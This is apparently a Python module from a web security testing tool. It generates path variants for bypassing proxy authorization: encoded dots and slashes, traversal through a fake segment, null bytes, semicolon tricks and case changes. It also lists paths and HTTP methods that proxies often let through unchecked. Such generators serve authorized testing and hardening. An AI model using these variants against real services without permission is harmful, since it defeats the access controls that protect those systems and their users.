"""Other ways to write an address, and addresses that proxies are often configured not to ask about."""

from collections.abc import Iterator

METHODS = ("HEAD", "POST", "OPTIONS", "PATCH", "DELETE", "PROPFIND")
_EXTENSIONS = ("css", "js", "json", "png", "ico", "svg", "woff2", "map", "txt")
_OFTEN_EXEMPT = (
    "/favicon.ico",
    "/robots.txt",
    "/manifest.json",
    "/sw.js",
    "/.well-known/NAME",
    "/static/NAME",
    "/assets/NAME",
    "/public/NAME",
    "/api/NAME",
    "/health",
    "/metrics",
    "/login",
    "/ws",
    "/socket.io/",
)


def spellings(path: str, name: str) -> Iterator[str]:
    """Yield other targets that an application may read as this path; `name` is a name that it does not have."""
    stem, inside = path.rstrip("/"), path != "/"
    yield from (f"/{path}", f"/.{path}", f"/%2e{path}", f"/{name}/..{path}", f"/{name}/%2e%2e{path}")
    yield from (f"/{name}%2f..{path}", f"/%2f{path}", f"/\\{path[1:]}", f"/%5c{path[1:]}", f"/;{path}")
    yield from (f"{path}%20", f"{path}%00", f"{path}?.css")
    if inside:
        yield stem if path.endswith("/") else f"{path}/"
        yield from (f"{stem}//", f"{stem}/.", f"{stem}/{name}/..", f"{stem}%2f", f"{stem};{name}", f"{stem}/;")
        yield from (path.replace("/", "//"), path.upper(), path.lower(), path.title(), _encode(path, "%{:02x}"))
        yield from (_encode(path, "%25{:02x}"), f"{stem}.", f"{stem}.html", f"{stem}.json")


def paths_of_files(path: str, name: str) -> Iterator[str]:
    """Yield targets below this path that look like files, for which proxies often ask no one."""
    yield from (f"{path.rstrip('/')}/{name}.{extension}" for extension in _EXTENSIONS)


def often_exempt(name: str) -> Iterator[str]:
    """Yield targets that proxies often pass on without asking."""
    yield from (path.replace("NAME", name) for path in _OFTEN_EXEMPT)


def _encode(path: str, form: str) -> str:
    """Return a path whose first letter after the first slash is encoded."""
    letter = path[1:2]
    return f"/{form.format(ord(letter))}{path[2:]}" if letter.isascii() and letter.isalnum() else path
